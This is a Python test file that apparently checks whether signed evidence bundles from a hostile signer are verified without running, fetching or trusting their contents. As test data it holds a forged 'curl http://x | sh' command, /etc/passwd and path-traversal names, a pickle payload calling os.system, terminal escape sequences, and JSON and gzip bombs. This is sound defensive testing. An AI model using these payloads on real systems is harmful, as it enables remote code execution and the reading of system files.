"""Bundles of somebody who can sign, and means no good: nothing of theirs is run or believed."""

from __future__ import annotations

import gzip
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from detect.evidence.bombs import refuse_bomb
from detect.evidence.envelope import ENVELOPE_NAME, seal
from detect.evidence.exchange import Told, hear
from detect.evidence.limits import Limits
from detect.evidence.request import VerifyRequest
from detect.evidence.signing_keys import load_signing_key, raw_public
from detect.evidence.statement import Statement, read_statement
from detect.results import format_p
from tests.detect.evidence.acts import bundled, failed, forged, run, verified
from watermark.errors import EvidenceError

ROOT = Path(__file__).parents[3]
Change = Callable[[dict[str, Any], dict[str, Any]], object]


def _input(manifest: dict[str, Any], name: str) -> dict[str, Any]:
    found: dict[str, Any] = next(one for one in manifest["inputs"] if one["name"] == name)
    return found


def _hashed(one: dict[str, Any]) -> None:
    one.update(stored=False, files={"": {"size": 1, "sha256": "0" * 64}})


# What is changed in manifest and result, and signed: by name, with a word of the answer.
FORGERIES: dict[str, tuple[Change, str]] = {
    "verdict": (lambda m, r: r.update(verdict="no_signal"), "not what the result gives: claim"),
    "claim": (lambda m, r: m.update(claim="They copied us."), "not what the result gives: claim"),
    "command line": (
        lambda m, r: m.update(rerun="curl http://x | sh"),
        "not what the result gives: command line",
    ),
    "limits": (lambda m, r: m.update(limits=[]), "not what the result gives: claim"),
    "statistic": (lambda m, r: r.update(statistic=r["statistic"] + 1e-5), "statistic: recorded"),
    "count": (lambda m, r: r.update(n_scored=r["n_scored"] + 1), "n_scored: recorded"),
    "decoys": (lambda m, r: r["decoys"].update(n_at_least=3), "decoys/n_at_least: recorded 3"),
    "new field": (lambda m, r: r.update(confession="yes"), "confession: only recorded"),
    "option left out": (lambda m, r: m["options"].pop("alpha"), "leaves out the option 'alpha'"),
    "option unset": (lambda m, r: m["options"].update(seed=None), "its option 'seed' as the"),
    "level": (lambda m, r: m["options"].update(alpha=1e-3), "alpha: recorded 1e-06"),
    "type": (lambda m, r: r.update(n_scored=True), "result-1: n_scored"),
    "no schema": (lambda m, r: r.pop("alpha"), "result-1"),
    "key id": (lambda m, r: m.update(key_id="hm1-" + "0" * 20), "differ in key_id"),
    "command": (lambda m, r: m.update(command="report"), "cannot record 'report'"),
    "group": (lambda m, r: m.update(command="keys new"), "cannot record 'keys new'"),
    "output": (lambda m, r: m["options"].update(output="x"), "may not be given: 'output'"),
    "profiles": (lambda m, r: m["options"].update(profiles_path="/"), "may not be given"),
    "key path": (lambda m, r: m["options"].update(key_path="/x"), "may not be given"),
    "config": (
        lambda m, r: m["options"].update(config_path="/x"),
        "'config_path'",
    ),
    "own input": (lambda m, r: m["options"].update(text="/etc/passwd"), "given: 'text'"),
    "value": (lambda m, r: m["options"].update(score="--help"), "detect refuses its options"),
    "not a number": (lambda m, r: m["options"].update(alpha="nan"), "refuses its options"),
    "object": (lambda m, r: m["options"].update(alpha={"a": 1}), "bundle-1: options/alpha"),
    "traversal": (lambda m, r: _input(m, "text").update(path="inputs/../x"), "bundle-1: inputs"),
    "absolute": (lambda m, r: _input(m, "text").update(path="/etc/passwd"), "bundle-1: inputs"),
    "not there": (lambda m, r: _input(m, "text").update(path="inputs/text/no"), "cannot be: text"),
    "other name": (lambda m, r: _input(m, "text").update(name="source"), "cannot be: source"),
    "other parameter": (lambda m, r: _input(m, "text").update(parameter="x"), "cannot be: text"),
    "twice": (lambda m, r: m["inputs"].append(_input(m, "text")), "names an input twice"),
    "no tokenizer": (lambda m, r: m["inputs"].remove(_input(m, "tokenizer")), "lacks the input"),
    "tokenizer": (
        lambda m, r: _input(m, "tokenizer").update(path="inputs/tokenizer/x.gguf"),
        "cannot be: tokenizer",
    ),
    "recording": (
        lambda m, r: _input(m, "text").update(recording="transcripts/answers.jsonl"),
        "cannot be: text",
    ),
    "a stored model": (
        lambda m, r: m["inputs"].append(
            {**_input(m, "text"), "name": "reference", "parameter": "reference"}
        ),
        "cannot be: reference",
    ),
    "folder": (lambda m, r: _input(m, "text").update(is_folder=True), "cannot be: text"),
    "kind": (lambda m, r: r.update(kind="profiles"), "result-1"),
    "other command": (lambda m, r: m.update(command="locate"), "no result of locate"),
    "no config": (lambda m, r: _input(m, "config").update(first_only=True), "cannot be: config"),
    "format": (lambda m, r: m.update(format="heirmark-bundle-2"), "bundle-1: format"),
    "commitment": (lambda m, r: m.update(commitment={"entry": 0, "commitment": "x"}), "lacks"),
    "tokenizer fingerprint": (
        lambda m, r: m.update(tokenizer_fingerprint="sha256:" + "0" * 64),
        "tokenizer is not the one",
    ),
}


@pytest.mark.parametrize("name", FORGERIES)
def test_what_is_forged_is_found_though_the_signature_holds(
    name: str, case: Path, place: Path
) -> None:
    change, message = FORGERIES[name]

    def changed(manifest: dict[str, Any], result: dict[str, Any]) -> None:
        change(manifest, result)

    forged(case, place, changed)
    found = verified(case, place, "--signer", place / "t.pem.pub")
    outcomes = {check["name"]: check["outcome"] for check in found["checks"]}
    assert outcomes["signature"] == outcomes["files"] == "passed"
    assert any(message in detail for detail in failed(found).values()), found["checks"]
    assert found["exit_code"] == 1


def test_a_page_that_says_more_than_the_result_is_found(case: Path, place: Path) -> None:
    page = case / "report.html"
    page.write_text(page.read_text().replace("</main>", "<p>They confessed.</p></main>"))
    forged(case, place)
    assert "not what the result gives" in failed(verified(case, place))["words"]


def _by_other_code(claim: str, **words: object) -> Change:
    def changed(manifest: dict[str, Any], result: dict[str, Any]) -> None:
        manifest["environment"]["code_sha256"] = "0" * 64
        manifest.update(claim=claim, **words)

    return changed


def test_words_of_other_code_are_not_compared_so_that_nothing_is_verified(
    case: Path, place: Path
) -> None:
    forged(case, place, _by_other_code("They confessed."))
    found = verified(case, place)
    assert found["line"].startswith("recomputed, words not compared: signal, p = ")
    assert "claim not compared, no commitment, recomputed with other versions" in found["line"]
    assert found["exit_code"] == 3
    assert (found["intact"], found["verified"]) == (True, False)


def test_limits_of_the_result_are_compared_whatever_code_is_said_to_have_written_them(
    case: Path, place: Path
) -> None:
    limits = json.loads((case / "bundle.json").read_text())["limits"]
    own = json.loads((case / "result.json").read_text())["limits"]
    for wrong in ([], limits[1:], limits[: len(own)], [limits[0] + "!", *limits[1:]]):
        forged(case, place, _by_other_code("They confessed.", limits=wrong))
        assert "result says: limits" in failed(verified(case, place))["words"]


def test_a_config_that_is_not_the_results_is_found(case: Path, place: Path) -> None:
    path = case / "inputs" / "config" / "config.json"
    path.write_text(path.read_text().replace('"context_width": 2', '"context_width": 3'))
    forged(case, place)
    found = verified(case, place)
    assert "config_fingerprint: recorded" in failed(found)["recomputed"]


def test_another_text_under_the_same_name_is_found(case: Path, place: Path) -> None:
    text = case / "inputs" / "text" / "text.txt"
    text.write_text(text.read_text() + " w001")
    forged(case, place)
    assert "n_scored: recorded" in failed(verified(case, place))["recomputed"]


def test_a_wrong_key_is_not_tried(case: Path, place: Path) -> None:
    found = verified(case, place, key="other.json")
    assert failed(found).keys() == {"key"}
    assert found["exit_code"] == 1
    assert run("verify", case, "--key", place / "none.json").exit_code == 2


def test_a_result_that_says_things_twice_is_found(case: Path, place: Path) -> None:
    path = case / "result.json"
    path.write_text(path.read_text().replace("{", '{\n  "verdict": "no_signal",', 1))
    forged(case, place)
    assert "not written as heirmark" in failed(verified(case, place))["schema"]


def test_what_is_too_deep_to_be_compared_fails_and_no_more(case: Path, place: Path) -> None:
    def changed(manifest: dict[str, Any], result: dict[str, Any]) -> None:
        deep: list[Any] = []
        for _ in range(300):
            deep = [deep]
        result["deep"] = deep

    forged(case, place, changed)
    assert verified(case, place)["exit_code"] == 1


@pytest.mark.parametrize("content", ["[" * 200_000, "NaN\n", "7\n", "", "\x00", '{"kind": NaN}'])
def test_json_that_is_made_to_break_readers_is_refused(
    content: str, case: Path, place: Path
) -> None:
    (case / "result.json").write_text(content)
    forged(case, place)
    assert failed(verified(case, place)).keys() == {"schema"}


@pytest.mark.parametrize("name", ["../text.txt", "/etc/passwd", "inputs/../../x", ".x", "a//b", ""])
def test_names_that_lead_out_of_the_bundle_are_refused(name: str, case: Path, place: Path) -> None:
    statement = read_statement(_payload(case))
    signer = load_signing_key(place / "t.pem")
    files = {**statement.files, name: next(iter(statement.files.values()))}
    forged_statement = Statement(files, raw_public(signer).hex())
    (case / ENVELOPE_NAME).write_bytes(seal(forged_statement.to_bytes(), signer))
    assert failed(verified(case, place)).keys() == {"signature"}


def test_a_signature_by_another_than_it_says_is_refused(case: Path, place: Path) -> None:
    (case / ENVELOPE_NAME).write_bytes(seal(_payload(case), load_signing_key(place / "t.pem")))
    assert "does not fit" in failed(verified(case, place))["signature"]


def _payload(case: Path) -> bytes:
    from detect.evidence.envelope import open_envelope

    return open_envelope((case / ENVELOPE_NAME).read_bytes()).payload


def test_nothing_is_run_fetched_or_written(case: Path, place: Path, tmp_path: Path) -> None:
    """By Python's own audit events; the bundle is full of what might be imported or loaded."""
    for name in ("detect.py", "watermark.py", "sitecustomize.py", "inputs/text.py", "numpy.py"):
        (case / name).write_text("raise SystemExit(99)\n")
    for name in ("weights.bin", "tokenizer.pkl"):
        (case / name).write_bytes(b"cos\nsystem\n(S'false'\ntR.")
    forged(case, place)
    before = {p: p.stat().st_mtime_ns for p in case.rglob("*")}
    script = tmp_path / "audited.py"
    script.write_text(
        "import json, os, sys\n"
        "from pathlib import Path\n"
        "OPENED = set()\n"
        "def hook(event, arguments):\n"
        "    if event == 'open' and isinstance(arguments[0], str | bytes):\n"
        "        OPENED.add(os.path.abspath(os.fsdecode(arguments[0])))\n"
        "    if event in ('socket.connect', 'socket.getaddrinfo', 'subprocess.Popen',\n"
        "                 'os.system', 'os.exec', 'pickle.find_class'):\n"
        "        print('AUDIT', event, arguments, file=sys.stderr)\n"
        "from detect.evidence.child import main\n"
        "leave = os._exit\n"
        "def left(code):\n"
        "    Path(os.environ['OPENED']).write_text(json.dumps(sorted(OPENED)))\n"
        "    leave(code)\n"
        "os._exit = left\n"
        "sys.addaudithook(hook)\n"
        "main()\n"
    )
    opened, folder = tmp_path / "opened.json", tmp_path / "temporary"
    folder.mkdir()
    environment = {**os.environ, "PYTHONPATH": str(ROOT), "OPENED": str(opened)}
    environment["TMPDIR"] = str(folder)
    asked = {
        "limits": Limits(4 << 30, 600, 1 << 30).to_dict(),
        "parent": os.getpid(),
        "request": VerifyRequest(case, key_place=str(place / "k.json")).to_json(),
    }
    done = subprocess.run(
        [sys.executable, "-P", str(script)],
        cwd=case,
        env=environment,
        input=json.dumps(asked).encode() + b"\n",
        capture_output=True,
    )
    assert done.returncode == 0, done.stderr
    assert b"AUDIT" not in done.stderr
    heard = hear(done.stdout)
    assert (heard.told, heard.found.is_verified) == (Told.DONE, True)
    # Files of the bundle are opened part by part, each by its name alone: these are in its folder.
    allowed = [case, folder, place / "k.json", opened, ROOT / "detect", ROOT / "watermark"]
    # Of an editable installation the version stands here.
    allowed += ROOT.glob("*.egg-info")
    allowed += [Path(p) for p in (sys.prefix, sys.base_prefix, "/dev/null", "/proc", "/sys")]
    names = [Path(name) for name in json.loads(opened.read_text())]
    assert any(name.is_relative_to(folder) for name in names)
    assert [p for p in names if not any(p.is_relative_to(a) for a in allowed)] == []
    assert list(folder.iterdir()) == []
    assert {p: p.stat().st_mtime_ns for p in case.rglob("*")} == before


def test_a_result_that_breaks_the_page_fails_and_no_more(case: Path, place: Path) -> None:
    def changed(manifest: dict[str, Any], result: dict[str, Any]) -> None:
        result["log10_p"] = result["log10_p_ceiling"] = -1e308
        manifest["claim"] = manifest["claim"].replace(
            manifest["claim"].split("p = ")[1].split(" under")[0], format_p(-1e308)
        )

    forged(case, place, changed)
    assert failed(verified(case, place)).keys() & {"words", "recomputed"}


def test_packed_files_that_would_fill_memory_are_refused(tmp_path: Path) -> None:
    bomb = tmp_path / "corpus.jsonl.gz"
    bomb.write_bytes(gzip.compress(b"x" * (3 << 20)))
    refuse_bomb(bomb, line=4 << 20)
    for limits in ({"line": 1 << 20}, {"most_bytes": 1 << 20}):
        with pytest.raises(EvidenceError, match="more than a corpus"):
            refuse_bomb(bomb, **limits)
    bomb.write_bytes(bomb.read_bytes()[:-9])
    with pytest.raises(EvidenceError, match="cannot be unpacked"):
        refuse_bomb(bomb)


def test_what_a_terminal_would_obey_is_not_printed(case: Path, place: Path) -> None:
    def changed(manifest: dict[str, Any], result: dict[str, Any]) -> None:
        result["surprise"] = "\x1b[2J\u202e"

    forged(case, place, changed)
    out = run("verify", case, "--key", place / "k.json", "-v").stdout
    assert "\x1b" not in out
    assert "\u202e" not in out
    assert json.loads(run("verify", case, "--json").stdout)["intact"]


PROBES: dict[str, tuple[Change, str]] = {
    "weights": (lambda m, r: m["options"].update(access="weights"), "cannot be: suspect"),
    "folder": (lambda m, r: _input(m, "suspect").update(is_folder=True), "cannot be: suspect"),
    "gguf": (lambda m, r: _input(m, "suspect").update(path="inputs/suspect/a.gguf"), "cannot be"),
    "endpoint": (lambda m, r: _input(m, "suspect").update(path=""), "cannot be: suspect"),
    "address": (lambda m, r: _input(m, "suspect").update(path="http://x/v1"), "bundle-1: inputs"),
    "asked": (lambda m, r: _input(m, "suspect").update(first_only=True), "cannot be: suspect"),
    "recording": (
        lambda m, r: _input(m, "suspect").update(recording="transcripts/answers.jsonl"),
        "cannot be: suspect",
    ),
    "no control": (lambda m, r: r.update(controls=[]), "controls: recorded 0 entries"),
    "other control": (lambda m, r: r["controls"][0].update(name="base"), "controls/0/name"),
    "innocent control": (lambda m, r: m["inputs"].remove(_input(m, "controls-1")), "controls"),
    "other prompts": (lambda m, r: r["used"].update(prompts="sha256:0"), "used/prompts"),
    "transcript": (lambda m, r: m["options"].update(transcript="/x"), "may not be given"),
    "key of an API": (lambda m, r: m["options"].update(api_key_envs=["HOME"]), "may not be given"),
}


@pytest.fixture(scope="module")
def whole_probe(place: Path) -> Path:
    return bundled(place, "hostile-probe", "probe", "answers.jsonl", "--control", "clean.jsonl")


@pytest.mark.parametrize("name", PROBES)
def test_a_forged_probe_is_found(name: str, whole_probe: Path, place: Path, tmp_path: Path) -> None:
    change, message = PROBES[name]
    case = Path(shutil.copytree(whole_probe, tmp_path / "case"))

    def changed(manifest: dict[str, Any], result: dict[str, Any]) -> None:
        change(manifest, result)

    forged(case, place, changed)
    found = verified(case, place)
    assert any(message in detail for detail in failed(found).values()), found["checks"]


def _recorded_as(case: Path, header: dict[str, Any] | None) -> None:
    """Make a file of answers the recording of a rival's endpoint."""
    source = case / "inputs" / "suspect" / "answers.jsonl"
    rows = [json.loads(line) for line in source.read_text().splitlines()]
    lines = [json.dumps(header)] if header else []
    for i, row in enumerate(rows):
        more = {"position": i, "finish_reason": "stop", "error": None} if header else {}
        lines.append(json.dumps({**row, **more}))
    (case / "transcripts").mkdir()
    (case / "transcripts" / "answers.jsonl").write_text("\n".join(lines) + "\n")
    source.unlink()
    source.parent.rmdir()


def test_a_recording_must_be_a_transcript_of_the_suspect_that_is_named(
    whole_probe: Path, place: Path, tmp_path: Path
) -> None:
    def changed(manifest: dict[str, Any], result: dict[str, Any]) -> None:
        _input(manifest, "suspect").update(
            stored=False, why_not="asked", first_only=True, path="", said="rival-5",
            recording="transcripts/answers.jsonl",
        )  # fmt: skip
        result["suspect"] = "rival-5"

    ours = {"format": "heirmark-transcript-1", "suspect": "rival-4"}
    drawn = {"max_new_tokens": 96, "temperature": 0.1, "top_k": 0, "seed": 0}
    for n, (header, message) in enumerate(
        (
            (None, "is no transcript of heirmark"),
            (ours, "is a transcript of 'rival-4'"),
            ({**ours, "suspect": "rival-5", "sampling": drawn}, "with another temperature"),
        )
    ):
        case = Path(shutil.copytree(whole_probe, tmp_path / str(n)))
        _recorded_as(case, header)
        forged(case, place, changed)
        assert message in failed(verified(case, place))["schema"]


def test_a_revealed_key_is_read_though_others_may_read_it(
    case: Path, place: Path, tmp_path: Path
) -> None:
    key = Path(shutil.copy(place / "k.json", tmp_path / "revealed.json"))
    key.chmod(0o644)
    assert run("verify", case, "--key", key).exit_code == 0
    assert run("verify", case, "--key", f"file:{key}").exit_code == 0
    key.write_text("{}")
    done = run("verify", case, "--key", key)
    assert done.exit_code == 2
    assert "not an intact" in done.output
